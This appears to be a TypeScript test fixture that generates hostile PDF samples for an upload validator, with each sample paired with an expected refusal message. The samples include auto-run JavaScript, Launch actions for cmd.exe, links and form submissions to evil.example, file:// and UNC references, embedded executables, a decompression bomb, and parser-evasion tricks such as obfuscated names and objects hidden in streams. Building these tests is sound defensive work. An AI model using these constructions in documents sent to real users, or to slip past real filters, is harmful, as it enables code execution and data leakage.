import { deflateSync } from 'node:zlib';

/** A document of one page, with additions of the spec to its catalog or page. */
export const pdfWith = (catalog: string, page = '') => `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]${page}>>endobj
trailer<</Size 4/Root 1 0 R>>
startxref
0
%%EOF
`;

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>]`;

/** Objects compressed into a stream, where a text search does not find them. */
function packed(objects: string | Buffer): Buffer {
  const stream = deflateSync(objects);
  const head = `%PDF-1.7\n9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${stream.length}>>stream\n`;
  const rest = pdfWith('').slice('%PDF-1.7\n'.length);
  return Buffer.concat([Buffer.from(head), stream, Buffer.from(`\nendstream endobj\n${rest}`)]);
}

/** Objects one after the other, without a cross-reference table. */
const objects = (...contents: string[]) =>
  `%PDF-1.7\n${contents.map((content, index) => `${index + 1} 0 obj${content}endobj\n`).join('')}`;
const END = 'trailer<</Size 9/Root 1 0 R>>\nstartxref\n0\n%%EOF\n';
const CATALOG = '<</Type/Catalog/Pages 2 0 R>>';
const PAGES = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
const pageWith = (more: string) => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]${more}>>`;

/** A comment that looks like the beginning of a stream to a text search. */
const behindComment = (action: string) =>
  objects(CATALOG, PAGES, pageWith('/Annots[4 0 R]')) +
  `% stream\n4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>endobj\n% endstream\n${END}`;

/**
 * A document whose cross-reference table points into a stream, to an object that a sequential reader would take for
 * stream data.
 */
function hiddenInStream(): string {
  const hidden = `4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>endobj\n`;
  const text =
    objects(CATALOG, PAGES, pageWith('/Annots[4 0 R]')) +
    `5 0 obj<</Length ${hidden.length}>>stream\n${hidden}endstream endobj\n`;
  const at = (start: string) => `${String(text.indexOf(start)).padStart(10, '0')} 00000 n \n`;
  const table = ['1 0 obj', '2 0 obj', '3 0 obj', '4 0 obj', '5 0 obj'].map(at).join('');
  return `${text}xref\n0 6\n0000000000 65535 f \n${table}trailer<</Size 6/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`;
}

export const DAMAGED_PDF = 'This PDF document is damaged and cannot be read.';
export const LOCKED_PDF = 'This PDF document is protected by a password. Please save it without one.';
export const ACTIVE_PDF =
  'This PDF document contains scripts, active links or other files. Please save it without them.';

/** Documents that act when they are opened, or contain more than a document; with the refusals they get. */
export const HOSTILE_PDFS: readonly (readonly [string, () => string | Buffer, string])[] = [
  ['a script when it opens', () => pdfWith(`/OpenAction${SCRIPT}`), ACTIVE_PDF],
  ['a page that it visits when it opens', () => pdfWith('/OpenAction<</S/URI/URI(https://evil.example)>>'), ACTIVE_PDF],
  [
    'a page that it visits behind a place',
    () => pdfWith('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>'),
    ACTIVE_PDF,
  ],
  [
    'a page that it visits when a page shows',
    () => pdfWith('', '/AA<</O<</S/URI/URI(https://evil.example)>>>>'),
    ACTIVE_PDF,
  ],
  [
    'a page that it visits, told elsewhere',
    () => pdfWith('/OpenAction 5 0 R').replace('trailer', '5 0 obj<</S/URI/URI(https://evil.example)>>endobj\ntrailer'),
    ACTIVE_PDF,
  ],
  ['a script whose name is hidden', () => pdfWith('/OpenAction<</S/J#61vaScript/J#53(x)>>'), ACTIVE_PDF],
  ['a script among its names', () => pdfWith(`/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>`), ACTIVE_PDF],
  ['a script behind a link', () => pdfWith('', link(SCRIPT)), ACTIVE_PDF],
  ['a script packed away', () => packed(`4 0 <</Type/Annot/A${SCRIPT}>>`), ACTIVE_PDF],
  ['a program behind a link', () => pdfWith('', link('<</S/Launch/F(cmd.exe)>>')), ACTIVE_PDF],
  ['a program behind a comment', () => behindComment('<</S/Launch/F(cmd.exe)>>'), ACTIVE_PDF],
  [
    'a program whose kind stands elsewhere',
    () => behindComment('<</S 5 0 R>>').replace('trailer', '5 0 obj/Launch endobj\ntrailer'),
    ACTIVE_PDF,
  ],
  ['a program in the data of a stream', hiddenInStream, ACTIVE_PDF],
  ['a program packed away', () => packed(`4 0 <</Type/Annot/A<</S/L#61unch/F(cmd.exe)>>>>`), ACTIVE_PDF],
  ['a form that is sent away', () => pdfWith('', link('<</S/SubmitForm/F(https://evil.example)>>')), ACTIVE_PDF],
  ['data that come from elsewhere', () => pdfWith('', link('<</S/ImportData/F(a.fdf)>>')), ACTIVE_PDF],
  ['a link to another file', () => pdfWith('', link('<</S/GoToR/F(\\\\evil.example\\a.pdf)/D[0/Fit]>>')), ACTIVE_PDF],
  ['a link into a file inside', () => pdfWith('', link('<</S/GoToE/D[0/Fit]>>')), ACTIVE_PDF],
  ['a link that is a script', () => pdfWith('', link('<</S/URI/URI(java\\163cript:alert\\(1\\))>>')), ACTIVE_PDF],
  [
    'a link to a file of its reader',
    () => pdfWith('', link('<</S/URI/URI<66696C653A2F2F2F6574632F686F737473>>>')),
    ACTIVE_PDF,
  ],
  ['a form of scripts', () => pdfWith('/AcroForm<</Fields[]/XFA 9 0 R>>'), ACTIVE_PDF],
  ['a film', () => pdfWith('', '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]'), ACTIVE_PDF],
  [
    'a stream that comes from elsewhere',
    () =>
      pdfWith('').replace(
        'trailer',
        '4 0 obj<</F(https://evil.example/a)/Length 0>>stream\n\nendstream endobj\ntrailer',
      ),
    ACTIVE_PDF,
  ],
  [
    'another file in it',
    () => pdfWith('/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>]>>>>'),
    ACTIVE_PDF,
  ],
  ['an archive behind it', () => pdfWith('').replace('trailer', '% PK\x05\x06\ntrailer'), ACTIVE_PDF],
  ['a password', () => pdfWith('').replace('/Root', '/Encrypt 8 0 R/Root'), LOCKED_PDF],
  ['a page behind its end', () => `${pdfWith('')}<script>alert(1)</script>`, DAMAGED_PDF],
  ['a bomb packed away', () => packed(Buffer.alloc(60 * 1_048_576)), DAMAGED_PDF],
  ['nothing but a beginning and an end', () => '%PDF-1.7\nstartxref\n0\n%%EOF', DAMAGED_PDF],
];
